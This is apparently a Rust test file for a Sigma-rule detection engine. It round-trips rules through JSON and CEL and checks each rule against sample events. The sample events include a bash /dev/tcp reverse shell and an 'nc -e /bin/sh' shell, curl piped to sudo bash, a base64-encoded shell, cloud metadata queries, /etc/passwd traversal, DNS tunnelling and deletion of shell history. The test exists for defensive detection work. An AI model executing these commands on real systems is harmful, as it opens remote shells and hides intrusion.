use super::oracle::{command, event, hits};
use super::{Detection, read};
use crate::expr;

const FILES: [(&str, &str); 10] = [
    (
        "shell_over_socket",
        include_str!("../../tests-data/sigma/shell_over_socket.yml"),
    ),
    (
        "download_and_run",
        include_str!("../../tests-data/sigma/download_and_run.yml"),
    ),
    (
        "encoded_script",
        include_str!("../../tests-data/sigma/encoded_script.yml"),
    ),
    (
        "cloud_metadata",
        include_str!("../../tests-data/sigma/cloud_metadata.yml"),
    ),
    (
        "paste_site_upload",
        include_str!("../../tests-data/sigma/paste_site_upload.yml"),
    ),
    (
        "path_traversal",
        include_str!("../../tests-data/sigma/path_traversal.yml"),
    ),
    (
        "dns_tunnel",
        include_str!("../../tests-data/sigma/dns_tunnel.yml"),
    ),
    (
        "ssh_keys",
        include_str!("../../tests-data/sigma/ssh_keys.yml"),
    ),
    (
        "history_removed",
        include_str!("../../tests-data/sigma/history_removed.yml"),
    ),
    (
        "odd_port",
        include_str!("../../tests-data/sigma/odd_port.yml"),
    ),
];

fn file(name: &str) -> Detection {
    let (_, text) = FILES.iter().find(|(known, _)| *known == name).unwrap();
    let mut all = read(text);
    assert_eq!(all.len(), 1, "{name}");
    all.remove(0).unwrap_or_else(|e| panic!("{name}: {e}"))
}

#[test]
fn every_rule_is_carried_over_written_and_read_again() {
    for (name, _) in FILES {
        let detection = file(name);
        let json = serde_json::to_string(&detection).unwrap();
        assert_eq!(Detection::parse(&json).unwrap(), detection, "{name}");
        let cel = detection.to_cel();
        let ast = expr::parse(&cel).unwrap_or_else(|e| panic!("{name}: {cel}: {e}"));
        let again = ast.show(ast.root());
        assert_eq!(expr::parse(&again).unwrap().len(), ast.len(), "{name}");
    }
}

#[test]
fn every_rule_finds_what_it_is_about() {
    let http = |host: &str, path: &str, query: Option<&str>, method: &str| {
        let mut event = event([
            ("http.request.method", method.into()),
            ("http.request.host", host.into()),
            ("http.request.path", path.into()),
            (
                "http.request.url",
                format!("https://{host}{path}").as_str().into(),
            ),
        ]);
        event.extend(query.map(|query| ("http.request.query".to_owned(), query.into())));
        event
    };
    let dns = |name: &str, ty: &str| {
        event([
            ("dns.request.qname", name.into()),
            ("dns.request.qtype", ty.into()),
        ])
    };
    let path = |call: &str, path: &str| {
        event([("file.operation", call.into()), ("file.path", path.into())])
    };
    let socket = |host: Option<&str>, address: &str, port: i64| {
        let mut event = event([
            ("socket.address", address.into()),
            ("socket.port", port.into()),
            ("socket.transport", "tcp".into()),
        ]);
        event.extend(host.map(|host| ("socket.host".to_owned(), host.into())));
        event
    };
    for (name, found, event) in [
        (
            "shell_over_socket",
            true,
            command("bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"),
        ),
        (
            "shell_over_socket",
            true,
            command("nc -e /bin/sh 203.0.113.9 1"),
        ),
        ("shell_over_socket", false, command("nc -l 80")),
        (
            "download_and_run",
            true,
            command("sh -c curl -fsSL https://a.test/i.sh | sudo BASH"),
        ),
        (
            "download_and_run",
            false,
            command("curl -o x https://a.test/i.sh"),
        ),
        (
            "encoded_script",
            true,
            command("echo L2Jpbi9zaCAtaQ== | base64 -d"),
        ),
        (
            "encoded_script",
            false,
            command("echo aGVsbG8= | base64 -d"),
        ),
        (
            "cloud_metadata",
            true,
            http("169.254.169.254", "/latest/meta-data/", None, "GET"),
        ),
        (
            "cloud_metadata",
            false,
            http("example.test", "/latest/meta-data/", None, "GET"),
        ),
        (
            "paste_site_upload",
            true,
            http("api.paste.test", "/new", None, "post"),
        ),
        (
            "paste_site_upload",
            false,
            http("api.paste.test", "/new", None, "GET"),
        ),
        (
            "path_traversal",
            true,
            http("a.test", "/x/../../etc/passwd", None, "GET"),
        ),
        (
            "path_traversal",
            true,
            http("a.test", "/x", Some("f=..%2f..%2fetc%2fpasswd"), "GET"),
        ),
        ("path_traversal", false, http("a.test", "/x", None, "GET")),
        (
            "dns_tunnel",
            true,
            dns("abcdefghijklmnopqrstuvwxyz0123456789abcd.t.test", "TXT"),
        ),
        ("dns_tunnel", false, dns("mail.test", "TXT")),
        (
            "dns_tunnel",
            false,
            dns("abcdefghijklmnopqrstuvwxyz0123456789abcd.good.test", "TXT"),
        ),
        (
            "ssh_keys",
            true,
            path("open", "/home/a/.ssh/authorized_keys"),
        ),
        (
            "ssh_keys",
            false,
            path("unlink", "/home/a/.ssh/authorized_keys"),
        ),
        (
            "history_removed",
            true,
            path("unlink", "/root/.bash_history"),
        ),
        (
            "history_removed",
            false,
            path("open", "/root/.bash_history"),
        ),
        ("odd_port", true, socket(None, "203.0.113.9", 4444)),
        ("odd_port", false, socket(None, "10.1.2.3", 4444)),
        (
            "odd_port",
            false,
            socket(Some("build.internal"), "203.0.113.9", 4444),
        ),
        ("odd_port", false, socket(None, "203.0.113.9", 443)),
    ] {
        assert_eq!(hits(&file(name), &event), found, "{name} for {event:?}");
    }
}

#[test]
fn every_rule_of_the_unsupported_ones_is_skipped_with_its_reason() {
    let all = read(include_str!("../../tests-data/sigma/unsupported.yml"));
    let reasons = [
        ("Registry key of a service", "about windows"),
        ("Login at night", "\"auditd\""),
        ("Many failed requests", "\"sc-status\""),
        ("Root starts a shell", "\"User\""),
        ("Host from a list", "\"expand\""),
        ("Many lookups", "counted over several events"),
        ("Scan and then connect", "several events"),
        ("Two of three", "\"2 of\""),
        ("Word with a look-around", "look-around"),
        ("Burst", "a correlation"),
        ("", "no title"),
    ];
    assert_eq!(all.len(), reasons.len());
    for (result, (title, words)) in all.iter().zip(reasons) {
        let skipped = result.as_ref().unwrap_err();
        assert_eq!(skipped.title, title);
        assert!(skipped.to_string().contains(words), "{skipped}");
        assert!(skipped.line > 1 || title == "Registry key of a service");
    }
}
